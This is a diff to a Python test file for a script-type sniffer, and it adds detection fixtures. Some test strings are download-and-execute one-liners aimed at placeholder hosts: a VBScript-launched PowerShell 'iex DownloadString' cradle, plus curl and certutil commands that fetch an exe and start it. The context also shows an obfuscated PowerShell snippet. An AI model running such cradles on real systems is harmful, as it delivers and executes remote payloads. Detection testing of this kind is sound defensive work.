@@ -164,6 +164,13 @@ TEXTS = [
         '@echo off\n>a.vbs echo Set x=CreateObject("MSXML2.XMLHTTP")\n>>a.vbs echo Set s=CreateObject("ADODB.Stream")\ncscript a.vbs',
         "script.cmd",
     ),
+    (
+        'CreateObject("WScript.Shell").Run "powershell -c $w=New-Object Net.WebClient;iex $w.DownloadString(\'http://a.example.test/\')", 0',
+        "script.vbs",
+    ),
+    ("curl.exe -o a.exe http://a.example.test/x\nStart-Process a.exe\n", "script.powershell"),
+    ("curl.exe -o a.exe http://a.example.test/x;certutil -urlcache -f http://b.example.test/x b.exe", "script.powershell"),
+    ("curl -o a.exe http://a.example.test/x\r\nstart a.exe\r\n", "script.cmd"),
     ('${;}=+$();${=}=${;};${+}=++${;};${@}=++${;};"${=}${+}"', "script.powershell"),
 ]
 
@@ -206,6 +213,9 @@ def test_a_name_settles_ties_only():
     assert sniff(either.encode(), "a.doc") == sniff(either.encode(), "")
     page = "<html><body>" + "<p>hello</p>" * 20 + "</body></html>"
     assert sniff(page.encode(), "a.ps1") == ("text.html",)
+    line = "curl.exe -o a.exe http://a.example.test/x"
+    assert sniff(line.encode(), "a.ps1") == ("script.powershell",)
+    assert sniff(line.encode(), "a.bat") == ("script.cmd",)
 
 
 def test_a_long_comment_or_blanks_do_not_hide_a_script():
